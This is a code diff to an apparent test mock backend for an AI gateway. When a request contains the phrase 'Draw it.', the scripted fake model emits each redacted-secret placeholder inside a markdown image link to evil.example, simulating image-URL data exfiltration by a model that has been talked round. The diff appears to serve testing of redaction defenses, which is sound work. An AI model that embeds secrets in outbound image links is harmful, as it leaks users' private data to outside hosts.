@@ -12,6 +12,8 @@ from gateway.cli.mock_backend.server import ScriptedEngine
 
 PLACEHOLDER = re.compile(r"\[\[redacted:[a-z0-9-]+:[a-p]{16}\]\]")
 TOOL = "look_up"
+# Whoever asks for this is shown each placeholder in the address of a picture.
+TALKED_ROUND = b"Draw it."
 
 
 class QuotingEngine(ScriptedEngine):
@@ -29,8 +31,9 @@ class QuotingEngine(ScriptedEngine):
         told = list(dict.fromkeys(PLACEHOLDER.findall(raw.decode())))
         script = _Pieces(**_fields(super().script(dialect, raw)))
         pieces = ["It says"]
+        opens, closes = ("![x](https://evil.example/", ")") if TALKED_ROUND in raw else ("'", "'")
         for one in told:
-            pieces += [f" '{one[:7]}", one[7:29], f"{one[29:]}'"]
+            pieces += [f" {opens}{one[:7]}", one[7:29], f"{one[29:]}{closes}"]
         said = (*pieces, ", and no more.")
         script = replace(script, text=said if script.stream else ("".join(said),))
         tools = msgspec.json.decode(raw).get("tools")
